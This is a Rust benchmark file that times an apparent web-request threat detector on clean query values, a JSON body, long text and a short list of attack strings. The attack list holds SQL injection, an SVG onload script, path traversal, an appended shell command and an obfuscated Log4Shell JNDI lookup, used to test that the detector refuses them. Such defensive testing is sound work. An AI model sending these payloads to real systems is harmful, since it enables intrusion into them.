//! How long a look takes: a GET with four short values, a small JSON body, a long clean text, and attacks. Every run first
//! asserts that attacks are refused and clean values pass. Refuses to measure the parsing before it.

use divan::{AllocProfiler, Bencher, black_box, counter::BytesCount};
use threat::{Detector, Kind, Place, Settings};

/// Shows what each look allocates: nothing for a value that the prefilter lets through.
#[global_allocator]
static ALLOCATED: AllocProfiler = AllocProfiler::system();

const GET: [&str; 4] = ["42", "conan o'brien", "2026-11-22", "name,-price"];
const POST: [(&str, &str); 7] = [
    ("name", "Ada Lovelace"),
    ("email", "ada@example.org"),
    ("birth_place", "London, United Kingdom"),
    ("timezone", "Europe/London"),
    ("redirect", "https://example.org/welcome?step=2"),
    ("locale", "en-GB"),
    ("note", "It's my first chart (of many); thanks"),
];
const ATTACKS: [&str; 5] =
    ["7' or 3>2 --", "<svg/onload=go()>", "../../etc/motd", "x;uname -a", "${${lower:j}ndi:ldap://h/x}"];

fn main() {
    let detector = Detector::default();
    for value in ATTACKS {
        assert!(detector.inspect(value.as_bytes(), Place::Query, Kind::Undeclared).is_some(), "{value}");
    }
    assert_eq!(get(detector) + post(detector), 0);
    assert!(detector.inspect(text().as_bytes(), Place::JsonValue, Kind::Undeclared).is_none());
    divan::main();
}

fn get(detector: Detector) -> usize {
    GET.iter()
        .filter(|value| {
            detector.inspect(black_box(value.as_bytes()), Place::Query, Kind::Undeclared).is_some()
        })
        .count()
}

fn post(detector: Detector) -> usize {
    POST.iter()
        .filter(|(key, value)| {
            detector.inspect(black_box(key.as_bytes()), Place::JsonKey, Kind::Undeclared).is_some()
                || detector.inspect(black_box(value.as_bytes()), Place::JsonValue, Kind::Undeclared).is_some()
        })
        .count()
}

/// 100 KB of sentences.
fn text() -> String {
    let sentences = "The moon was over the harbour, and nobody spoke of the journey that they had come to begin. \
        It's said that Anna's letters (all twelve) were read aloud; the captain laughed, \"at last\", and went below. ";
    sentences.chars().cycle().take(100_000).collect()
}

#[divan::bench]
fn get_of_four_values(bencher: Bencher) {
    let detector = Detector::new(Settings::default());
    bencher.bench_local(|| get(detector));
}

#[divan::bench]
fn small_json_body(bencher: Bencher) {
    let detector = Detector::default();
    bencher.bench_local(|| post(detector));
}

#[divan::bench]
fn long_clean_text(bencher: Bencher) {
    let (detector, text) = (Detector::default(), text());
    bencher
        .counter(BytesCount::of_str(&text))
        .bench_local(|| detector.inspect(black_box(text.as_bytes()), Place::JsonValue, Kind::Undeclared));
}

#[divan::bench]
fn long_text_declared(bencher: Bencher) {
    let (detector, text) = (Detector::default(), text());
    bencher
        .counter(BytesCount::of_str(&text))
        .bench_local(|| detector.inspect(black_box(text.as_bytes()), Place::JsonValue, Kind::Text));
}

#[divan::bench(args = ATTACKS)]
fn attack(bencher: Bencher, value: &str) {
    let detector = Detector::default();
    bencher.bench_local(|| detector.inspect(black_box(value.as_bytes()), Place::Query, Kind::Undeclared));
}

#[divan::bench(args = POST.map(|(_, value)| value).into_iter().chain(["Administrator", "5f1d7c0e-9a2b-4c3d-8e4f-0a1b2c3d4e5f"]))]
fn ordinary(bencher: Bencher, value: &str) {
    let detector = Detector::default();
    bencher.bench_local(|| detector.inspect(black_box(value.as_bytes()), Place::JsonValue, Kind::Undeclared));
}
